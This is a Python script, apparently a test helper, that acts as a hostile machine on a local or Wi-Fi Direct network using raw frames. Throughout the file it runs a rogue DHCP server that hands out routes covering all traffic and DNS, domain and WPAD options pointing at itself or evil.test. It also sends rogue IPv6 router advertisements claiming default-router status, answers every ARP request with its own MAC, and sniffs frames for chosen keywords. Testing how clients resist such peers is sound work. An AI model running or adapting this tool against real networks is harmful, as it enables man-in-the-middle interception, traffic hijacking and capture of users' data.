"""A machine on a group that wants more than a link: a DHCP server and a router with every trick, and an answer to every ARP question.

Run in its network namespace, as root: `python3 hostile.py '{"interface": "p2p-wlan0-0", ...}'` (`Wish` has the words). It speaks by raw
frames only, so that it needs no server's leave to be hostile, and says in JSON lines what it has done and heard; a frame in which
somebody says one of `listen_for` is said whole.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
from dataclasses import dataclass, field
from ipaddress import IPv4Address, IPv6Address, IPv6Network
from pathlib import Path

EVERYBODY = b"\xff" * 6
ALL_NODES = IPv6Address("ff02::1")
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5
COOKIE = b"\x63\x82\x53\x63"


@dataclass
class Wish:
    interface: str
    address: str = "192.168.177.1"  # it says this is itself
    give: str = ""  # by DHCP; empty: it serves none
    mask: str = "255.255.255.0"
    lease: int = 20  # seconds: soon to be renewed
    routes: bool = False  # options 3, 33, 121 and 249: everything, and single hosts, by itself
    names: bool = False  # options 6, 12, 15, 42, 119 and 252
    router: bool = False  # router advertisements: prefixes, routes, name servers, and that it is the default router
    claims: list[str] = field(default_factory=list)  # it says unasked that it has these addresses
    listen_for: list[str] = field(default_factory=list)


def say(what: str, **facts: object) -> None:
    print(json.dumps({"what": what, **facts}), flush=True)


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Hostile:
    def __init__(self, wish: Wish) -> None:
        self.wish = wish
        self.station = bytes.fromhex(Path(f"/sys/class/net/{wish.interface}/address").read_text().strip().replace(":", ""))
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.bind((wish.interface, 0))
        self.here = IPv4Address(wish.address)

    def run(self) -> None:
        say("ready")
        due, count = 0.0, 0
        while True:
            now = time.monotonic()
            if now >= due:
                due, count = now + 0.5, count + 1
                self.speak()
                say("spoken", times=count)
            if select.select([self.wire], [], [], max(0.0, due - now))[0]:
                self.hear(self.wire.recv(65536))

    # --- unasked ---

    def speak(self) -> None:
        if self.wish.router:
            self.advertise()
        for claim in self.wish.claims:
            self.arp(2, EVERYBODY, IPv4Address(claim), IPv4Address(claim), EVERYBODY)
            self.arp(1, EVERYBODY, IPv4Address(claim), IPv4Address(claim), b"\0" * 6)

    def advertise(self) -> None:
        """RFC 4861, 4191 (routes), 8106 (name servers and domains)."""
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0xC8, 9000, 0, 0)  # managed, other, preference high
        body += struct.pack("!BB", 1, 1) + self.station
        for prefix in ("2001:db8:bad::/64", "fd00:bad:bad:1::/64", "2000::/3"):
            network = IPv6Network(prefix)
            body += struct.pack("!BBBBIII", 3, 4, network.prefixlen, 0xC0, 86400, 14400, 0) + network.network_address.packed
        for route in ("::/0", "::/1", "8000::/1", "2001:db8:77::/48", "fd77::/16"):
            network = IPv6Network(route)
            body += struct.pack("!BBBBI", 24, 3, network.prefixlen, 0x08, 1800) + network.network_address.packed
        body += struct.pack("!BBHI", 25, 3, 0, 1800) + IPv6Address("2001:db8:bad::53").packed
        body += struct.pack("!BBHI", 31, 3, 0, 1800) + b"\4evil\4test\0".ljust(16, b"\0")
        self.icmp6(body)

    def icmp6(self, body: bytes) -> None:
        source = self.link_local()
        if source is None:
            return
        pseudo = source.packed + ALL_NODES.packed + struct.pack("!II", len(body), 58)
        body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
        header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source.packed + ALL_NODES.packed
        self.send(bytes.fromhex("333300000001"), 0x86DD, header + body)

    def link_local(self) -> IPv6Address | None:
        for line in Path("/proc/net/if_inet6").read_text().splitlines():
            digits, *_, name = line.split()
            if name == self.wish.interface and digits.startswith("fe8"):
                return IPv6Address(int(digits, 16))
        return None

    # --- asked ---

    def hear(self, frame: bytes) -> None:
        if len(frame) < 14 or frame[6:12] == self.station:
            return
        for word in self.wish.listen_for:
            if word.encode().lower() in frame.lower():
                say("named", word=word, frame=frame.hex())
        kind = int.from_bytes(frame[12:14])
        if kind == 0x0806 and len(frame) >= 42:
            sender, asker, target = frame[22:28], IPv4Address(frame[28:32]), IPv4Address(frame[38:42])
            # Everything is here. But whoever looks whether its own address is free must not be told so each time, or it never gets one.
            if frame[20:22] == b"\0\1" and int(asker) and asker != target:
                self.arp(2, sender, target, asker, sender)
        elif kind == 0x0800 and len(frame) >= 14 + 28 and frame[23] == 17:
            start = 14 + (frame[14] & 15) * 4
            if frame[start + 2 : start + 4] == b"\0\x43":
                self.dhcp(frame[start + 8 :])

    def arp(self, operation: int, to: bytes, sender: IPv4Address, target: IPv4Address, station: bytes) -> None:
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + self.station + sender.packed + station + target.packed
        self.send(to, 0x0806, body)

    def dhcp(self, message: bytes) -> None:
        if len(message) < 240 or message[0] != 1 or message[236:240] != COOKIE:
            return
        options = parse(message[240:])
        kind = options.get(53, b"\0")[0]
        say("dhcp", kind=kind, renewing=any(message[12:16]), options={str(key): value.hex() for key, value in options.items()})
        if not self.wish.give or kind not in (DISCOVER, REQUEST):
            return
        reply = bytearray(message[:240])
        reply[0] = 2
        reply[16:20] = IPv4Address(self.wish.give).packed
        reply[20:24] = self.here.packed
        answer = {53: bytes([OFFER if kind == DISCOVER else ACK]), 54: self.here.packed, 51: struct.pack("!I", self.wish.lease)}
        answer |= {1: IPv4Address(self.wish.mask).packed, **self.more()}
        for code, value in answer.items():
            reply += bytes([code, len(value)]) + value
        self.udp(message[28:34], bytes(reply) + b"\xff")

    def more(self) -> dict[int, bytes]:
        """RFC 2132; 121 and 249 (the same before it had a number): RFC 3442; 119: RFC 3397; 252: the proxy's."""
        here = self.here.packed
        found: dict[int, bytes] = {}
        if self.wish.routes:
            everywhere = b"\0" + here + b"\1\x00" + here + b"\1\x80" + here
            single = b"".join(b"\x20" + IPv4Address(address).packed + here for address in ("192.168.77.53", "10.9.9.9", "203.0.113.9"))
            found |= {3: here, 33: IPv4Address("198.51.100.9").packed + here, 121: everywhere + single, 249: everywhere + single}
        if self.wish.names:
            found |= {6: here, 12: b"renamed", 15: b"evil.test", 42: here, 119: b"\4evil\4test\0", 252: b"http://evil.test/wpad.dat"}
        return found

    def udp(self, to: bytes, data: bytes) -> None:
        length = 8 + len(data)
        datagram = struct.pack("!HHHH", 67, 68, length, 0) + data
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0, self.here.packed, b"\xff" * 4)
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        self.send(to, 0x0800, header + datagram)

    def send(self, to: bytes, kind: int, data: bytes) -> None:
        try:
            self.wire.send(to + self.station + struct.pack("!H", kind) + data)
        except OSError as error:
            say("not sent", why=str(error))


def parse(data: bytes) -> dict[int, bytes]:
    options: dict[int, bytes] = {}
    at = 0
    while at < len(data) and data[at] != 255:
        if data[at] == 0:
            at += 1
            continue
        if at + 1 >= len(data):
            break
        options[data[at]] = data[at + 2 : at + 2 + data[at + 1]]
        at += 2 + data[at + 1]
    return options


if __name__ == "__main__":
    try:
        Hostile(Wish(**json.loads(sys.argv[1]))).run()
    except OSError as error:  # the group has ended
        say("gone", why=str(error))
